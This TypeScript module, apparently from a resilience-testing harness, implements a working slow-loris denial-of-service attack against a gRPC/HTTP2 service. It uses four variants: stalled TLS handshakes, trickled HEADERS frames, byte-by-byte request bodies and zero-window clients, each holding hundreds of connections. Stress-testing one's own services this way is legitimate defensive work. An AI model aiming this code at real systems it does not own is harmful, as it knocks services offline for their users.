import type { Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import type { Attack } from "./attack.js";
import { proper } from "./frames.js";
import { every } from "./pace.js";
import { Papers } from "./papers.js";
import { address, call, dial, openSession, reached, secure, type Line } from "./wire.js";

/** Connections of each kind at a time, and how often each says something. */
const HELD = 250;
const EVERY_MS = 500;
const ADDRESSES = 100;
/** Milliseconds from one new connection of a kind to the next. */
const NEW_MS = 20;
const TIME = "/veilgrid.v1.ReadingIntake/Time";

/** A TLS record of 512 bytes with a ClientHello that never ends. */
const HELLO = Buffer.concat([Buffer.from("1603010200010001fc0303", "hex"), Buffer.alloc(500)]);
/** HTTP/2's preface, empty settings, and a HEADERS frame of 1,000 bytes that never ends. */
const HEADERS = Buffer.concat([
  Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
  Buffer.from("000000040000000000", "hex"),
  Buffer.from("0003e8010400000001", "hex"),
  Buffer.alloc(1_000, 0x40),
]);

/** Byte after byte until the other side has enough. */
async function trickle(socket: Socket, bytes: Buffer, at: number, signal: AbortSignal): Promise<void> {
  for (let i = at; i < bytes.length && !socket.destroyed && !signal.aborted; i += 1) {
    socket.write(bytes.subarray(i, i + 1));
    await pause(EVERY_MS);
  }
  socket.destroy();
}

async function handshake(line: Line, signal: AbortSignal): Promise<void> {
  const socket = dial(line);
  if (!(await reached(socket, "connect"))) return;
  socket.write(HELLO.subarray(0, 11));
  await trickle(socket, HELLO, 11, signal);
}

async function headers(line: Line, signal: AbortSignal): Promise<void> {
  const socket = secure(dial(line), line);
  socket.resume();
  if (!(await reached(socket, "secureConnect"))) return;
  socket.write(HEADERS.subarray(0, 42));
  await trickle(socket, HEADERS, 42, signal);
}

async function body(line: Line, signal: AbortSignal): Promise<void> {
  const session = await openSession(line);
  if (session === undefined) return;
  const stream = session.request({
    ":method": "POST",
    ":path": TIME,
    "content-type": "application/grpc",
    te: "trailers",
  });
  stream.on("error", () => undefined);
  stream.resume();
  // The head of a message of 1,000 bytes, then one after the other.
  stream.write(Buffer.from("00000003e8", "hex"));
  while (!stream.destroyed && !signal.aborted) {
    stream.write(Buffer.of(0));
    await pause(EVERY_MS);
  }
  session.destroy();
}

/** Calls that are complete, by a client that takes no answer. */
async function deaf(line: Line, signal: AbortSignal): Promise<void> {
  const session = await openSession(line);
  if (session === undefined) return;
  session.settings({ initialWindowSize: 0 });
  while (!session.destroyed && !signal.aborted) {
    void call(session, TIME, proper(new Uint8Array()));
    await pause(4 * EVERY_MS);
  }
  session.destroy();
}

const KINDS = {
  "slow handshakes": handshake,
  "slow headers": headers,
  "slow bodies": body,
  "deaf clients": deaf,
} as const;
type Kind = keyof typeof KINDS;

/** Slow-loris: handshakes, headers and bodies that trickle, answers that are not taken; begun anew when they are ended. */
export const loris: Attack = ({ folder }, tally) => {
  const port = Papers.of(folder).overview.places.das[0]?.meters ?? 0;
  const hold = async (name: Kind, signal: AbortSignal): Promise<void> => {
    let held = 0;
    await every(NEW_MS, signal, async () => {
      if (held >= HELD) return;
      held += 1;
      tally.add(name);
      await KINDS[name]({ port, from: address(31, (tally.counts[name] ?? 0) % ADDRESSES) }, signal);
      held -= 1;
    });
  };
  return async (signal) => {
    await Promise.all((Object.keys(KINDS) as Kind[]).map((name) => hold(name, signal)));
  };
};
